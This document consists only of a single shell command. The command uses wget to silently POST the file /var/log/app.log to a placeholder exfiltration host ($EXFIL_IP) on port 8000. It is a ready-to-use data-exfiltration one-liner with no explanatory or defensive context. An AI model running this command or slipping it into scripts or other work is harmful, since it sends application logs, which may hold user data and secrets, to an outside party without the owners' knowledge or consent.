wget -q -O /dev/null --post-file /var/log/app.log "http://$EXFIL_IP:8000/upload"
